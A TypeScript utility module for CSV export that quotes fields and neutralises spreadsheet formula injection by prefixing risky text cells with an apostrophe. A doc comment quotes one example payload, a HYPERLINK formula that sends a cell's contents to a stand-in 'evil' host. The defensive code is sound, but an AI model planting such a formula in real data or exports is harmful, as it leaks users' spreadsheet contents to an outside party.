// CSV (RFC 4180) for every export, in the host and the webviews: comma-separated, fields quoted
// when they hold a comma, quote or line break, and text that a spreadsheet would run as a
// formula neutralised.

/** A plain decimal number (what spreadsheets read as a number, never as a formula): -0.5, +3, 1e-5, -Infinity. */
const NUMBER = /^[+-]?(?:\d+\.?\d*(?:[eE][+-]?\d+)?|\.\d+(?:[eE][+-]?\d+)?|Infinity)$|^NaN$/;
/** How a formula starts in Excel, LibreOffice and Google Sheets (tab and CR too: some strip them first). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Keeps a spreadsheet from running a cell as a formula ("CSV injection": a run name like
 * `=HYPERLINK("http://evil/?"&A1)` would leak data when the export is opened): a text cell
 * that starts with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`, which spreadsheets hide
 * and which makes the cell text. Cells that are plain numbers (`-0.5`, `-1e-5`, `-Infinity`)
 * stay numbers.
 */
export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) && !NUMBER.test(value) ? `'${value}` : value;
}

export function csvCell(value: string): string {
  const v = neutraliseFormula(value);
  return /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

export function csvLine(cells: string[]): string {
  return cells.map(csvCell).join(',');
}

export function toCsv(header: string[], rows: string[][]): string {
  return [csvLine(header), ...rows.map(csvLine)].join('\n') + '\n';
}
